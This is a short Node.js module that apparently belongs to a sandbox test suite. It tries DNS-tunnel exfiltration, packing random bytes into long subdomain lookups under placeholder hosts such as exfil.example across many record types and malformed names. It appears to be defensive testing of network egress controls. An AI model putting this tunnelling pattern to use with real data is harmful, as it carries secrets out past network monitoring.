// Carries data out in names that it looks up.
import { randomBytes } from "node:crypto";
import dns from "node:dns/promises";
import { attempts, plugin } from "./hostile.mjs";
import { lookup, queried, query } from "./net.mjs";

const types = { A: 1, NS: 2, CNAME: 5, SOA: 6, NULL: 10, PTR: 12, MX: 15, TXT: 16, AAAA: 28, SRV: 33, NAPTR: 35, OPT: 41, DS: 43, SVCB: 64, HTTPS: 65, AXFR: 252, ANY: 255 };

/** A name that carries 110 bytes. */
const carrier = (under) => [...randomBytes(110).toString("hex").match(/.{1,50}/g), under].join(".");

async function many() {
  const codes = {};
  for (let i = 0; i < 8; i++) {
    const found = await Promise.allSettled(Array.from({ length: 50 }, () => dns.resolve4(carrier("exfil.example"))));
    for (const { status, reason } of found) codes[reason?.code ?? status] = (codes[reason?.code ?? status] ?? 0) + 1;
  }
  return codes;
}

export default plugin("hostile-network-dns-tunnel", {
  attack: async () => ({
    ...(await attempts({
      granted: lookup("api.tunnel.example", types.A),
      "below a granted name": lookup(carrier("api.tunnel.example"), types.A),
      "three labels for one": lookup(carrier("wide.tunnel.example"), types.A),
      ...Object.fromEntries(Object.entries(types).map(([name, type]) => [`type ${name}`, lookup(carrier("exfil.example"), type)])),
      ...Object.fromEntries(["TXT", "MX", "HTTPS", "ANY"].map((name) => [`granted name, ${name}`, lookup("api.tunnel.example", types[name])])),
      "label of 64": queried(query(`${"a".repeat(64)}.exfil.example`, 1)),
      "name of 300": queried(query(Array(30).fill("a".repeat(9)).join(".") + ".exfil.example", 1)),
      "bytes in a label": lookup("\x00\xff\n.exfil.example", 1),
    })),
    many: await many(),
  }),
});
